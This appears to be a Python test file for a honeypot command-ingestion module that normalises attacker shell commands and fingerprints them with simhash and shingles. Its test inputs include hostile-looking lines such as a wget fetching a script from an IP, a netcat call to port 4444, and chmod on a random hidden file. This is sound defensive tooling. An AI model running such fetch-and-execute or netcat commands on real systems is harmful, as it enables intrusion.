from decnet.ingest.commands import (
    collapse_repeats,
    normalise_command,
    script_of,
    script_shingles,
    script_simhash,
)


def test_normalise_masks_url_ip_and_numbers() -> None:
    assert normalise_command("wget http://198.51.100.9/x.sh; sleep 30") == (
        "wget <url>; sleep <n>"
    )


def test_normalise_masks_bare_ip_with_port() -> None:
    assert normalise_command("nc 198.51.100.9:4444") == "nc <ip>"


def test_normalise_masks_random_file_name() -> None:
    assert normalise_command("chmod +x .x9Fq2Lk7Zp") == "chmod +x <rand>"


def test_normalise_keeps_plain_words() -> None:
    assert normalise_command("cat /proc/cpuinfo") == "cat /proc/cpuinfo"


def test_collapse_counts_consecutive_runs() -> None:
    assert collapse_repeats(["a", "a", "b", "a"]) == [("a", 2), ("b", 1), ("a", 1)]


def test_repeated_commands_template_to_one_step() -> None:
    commands = [
        f"curl -s -o /dev/null http://www.example.com/?q={i}" for i in range(2000)
    ]
    assert script_of(commands) == ["curl -s -o /dev/null <url>"]


def test_script_simhash_ignores_repetition() -> None:
    once = script_of(["uname -a", "wget http://198.51.100.1/a"])
    many = script_of(["uname -a"] * 50 + ["wget http://203.0.113.2/b"])
    assert script_simhash(once) == script_simhash(many)


def test_script_simhash_is_sixteen_hex_digits() -> None:
    value = script_simhash(["uname -a"])
    assert value is not None
    assert len(value) == 16
    int(value, 16)


def test_empty_script_has_no_simhash() -> None:
    assert script_simhash([]) is None


def test_short_script_gives_one_shingle() -> None:
    assert len(script_shingles(["uname -a"])) == 1
